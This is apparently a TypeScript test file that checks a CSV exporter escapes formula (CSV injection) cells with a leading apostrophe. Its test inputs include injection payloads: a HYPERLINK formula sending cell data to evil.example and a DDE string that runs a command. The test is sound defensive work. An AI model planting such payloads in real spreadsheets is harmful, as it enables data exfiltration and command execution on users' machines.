// CSV injection (OWASP): a cell that a spreadsheet would run as a formula is written as text.
import { describe, expect, it } from 'vitest';
import { compilePolicy } from '../../src/compile/compile.ts';
import { collectedCsv, collectedList, csvCell, sharedCsv, sharedList } from '../../src/publish/lists.ts';
import { root } from '../helpers.ts';

/** The cells of an RFC 4180 CSV (quotes undone). */
function cells(csv: string): string[] {
  const out: string[] = [];
  const pattern = /(?:^|,)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g;
  for (const line of csv.replace(/^\uFEFF/, '').trimEnd().split('\r\n')) {
    for (const match of line.matchAll(pattern)) out.push(match[1] !== undefined ? match[1].replace(/""/g, '"') : match[2]!);
  }
  return out;
}

const attacks = ['=HYPERLINK("https://evil.example/?"&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];

describe('the lists as CSV', async () => {
  const document = (await compilePolicy({ policyDir: 'policy', cwd: root })).document!;

  it('no cell starts with = + - @, a tab or a carriage return: each such cell gets a leading apostrophe and quotes', () => {
    const doc = structuredClone(document);
    doc.purposes.forEach((purpose, i) => {
      purpose.title = attacks[i % attacks.length]!;
      purpose.items.forEach((item, k) => (item.name = attacks[(i + k) % attacks.length]!));
    });
    doc.sdks.forEach((sdk, i) => {
      sdk.name = attacks[i % attacks.length]!;
      sdk.company!.name = attacks[(i + 1) % attacks.length]!;
    });
    for (const csv of [collectedCsv(collectedList(doc)), sharedCsv(sharedList(doc))]) {
      const all = cells(csv);
      expect(all.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      for (const attack of attacks) expect(all).toContain(`'${attack}`);
    }
  });

  it('leaves ordinary cells as they are', () => {
    expect(csvCell('手机号码')).toBe('手机号码');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('=1')).toBe(`"'=1"`);
    expect(csvCell('说"明"')).toBe('"说""明"""');
  });
});
